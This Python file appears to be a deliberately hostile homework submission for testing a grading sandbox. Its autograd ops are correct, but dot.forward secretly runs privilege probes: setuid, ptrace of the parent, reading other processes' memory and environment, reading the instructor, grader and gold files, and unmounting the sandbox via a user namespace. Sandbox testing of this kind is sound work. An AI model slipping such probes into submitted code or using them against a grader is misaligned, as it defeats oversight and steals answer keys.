# HOSTILE: dot.forward tries to gain or use privileges (become another user, regain capabilities, ptrace its parent, read its parent's memory and environment, read other processes' environments, read the instructor's files, the grader and the gold classes, undo the sandbox's mounts from a user namespace of its own, signal every process) and raises an error reporting what worked (and its seccomp and no_new_privs state); the other ops are correct.
"""HW3: the four operations (sigmoid, log, multiply, dot)."""

from __future__ import annotations

import ctypes
import json
import os
import signal

import numpy as np

import edugrad
from edugrad.operation import Operation, tensor_op


def _try(fn):
    try:
        return fn()
    except BaseException as err:  # noqa: BLE001
        return f"refused ({type(err).__name__})"


def _read(path):
    with open(path, "rb") as f:
        return f"read {len(f.read())} bytes"


def _first_file(folder):
    for base, _, files in os.walk(folder):
        for name in sorted(files):
            return _read(os.path.join(base, name))
    return "refused (nothing listed)"


def _environ_of_others():
    read = 0
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) != os.getpid():
            try:
                with open(f"/proc/{name}/environ", "rb") as f:
                    if f.read(1):
                        read += 1
            except OSError:
                pass
    return read


def _cap_eff():
    with open("/proc/self/status") as f:
        return next(int(line.split()[1], 16) for line in f if line.startswith("CapEff"))


def _unshare_and_unmount(root):
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
        return f"refused (unshare errno {ctypes.get_errno()})"
    target = os.path.join(root, "instructor").encode()
    if libc.umount2(target, 2) != 0:  # MNT_DETACH
        return f"refused (umount errno {ctypes.get_errno()})"
    return "unmounted; " + _first_file(os.path.join(root, "instructor"))


def _ptrace_parent():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, os.getppid(), None, None) != 0:  # PTRACE_ATTACH
        return f"refused (errno {ctypes.get_errno()})"
    libc.ptrace(17, os.getppid(), None, None)  # PTRACE_DETACH
    return "attached"


def _status(field):
    with open("/proc/self/status") as f:
        return next(line.split()[1] for line in f if line.startswith(field + ":"))


def _probe():
    root = os.path.dirname(os.path.dirname(os.path.abspath(edugrad.__file__)))
    parent = os.getppid()
    report = {
        "setuid": _try(lambda: (os.setuid(1), "became uid 1")[1]),
        "setgroups": _try(lambda: (os.setgroups([0]), "joined group 0")[1]),
        "cap_eff": _try(_cap_eff),
        "ptrace_parent": _try(_ptrace_parent),
        "parent_mem": _try(lambda: _read(f"/proc/{parent}/mem")),
        "parent_environ": _try(lambda: _read(f"/proc/{parent}/environ")),
        "environ_of_others": _try(_environ_of_others),
        "instructor": _try(lambda: _first_file(os.path.join(root, "instructor"))),
        "grader": _try(lambda: _first_file(os.path.join(root, "grader"))),
        "classes": _try(lambda: _read(os.path.join(root, "data", "toy", "classes.tsv"))),
        "unshare_unmount": _try(lambda: _unshare_and_unmount(root)),
        "kill_all": _try(lambda: (os.kill(-1, signal.SIGCONT), "signalled every process")[1]),
        "seccomp": _try(lambda: _status("Seccomp")),
        "no_new_privs": _try(lambda: _status("NoNewPrivs")),
    }
    raise RuntimeError("privilege-probes " + json.dumps(report) + " end")


def _attack():
    _probe()


@tensor_op
class sigmoid(Operation):
    """Elementwise logistic function: sigma(a) = 1 / (1 + exp(-a))."""

    @staticmethod
    def forward(ctx, a):
        z = np.exp(-np.abs(a))
        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
        ctx.append(s)
        return s

    @staticmethod
    def backward(ctx, grad_output):
        (s,) = ctx
        return (grad_output * s * (1 - s),)


@tensor_op
class log(Operation):
    """Elementwise natural logarithm, for a > 0."""

    @staticmethod
    def forward(ctx, a):
        ctx.append(a)
        return np.log(a)

    @staticmethod
    def backward(ctx, grad_output):
        (a,) = ctx
        return (grad_output / a,)


@tensor_op
class multiply(Operation):
    """Elementwise product of two arrays of the same shape."""

    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return a * b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        return grad_output * b, grad_output * a


@tensor_op
class dot(Operation):
    """Dot product along the last axis: (..., d) x (..., d) -> (...)."""

    @staticmethod
    def forward(ctx, a, b):
        _attack()
        ctx.append(a)
        ctx.append(b)
        return np.sum(a * b, axis=-1)

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        g = grad_output[..., None]
        return g * b, g * a
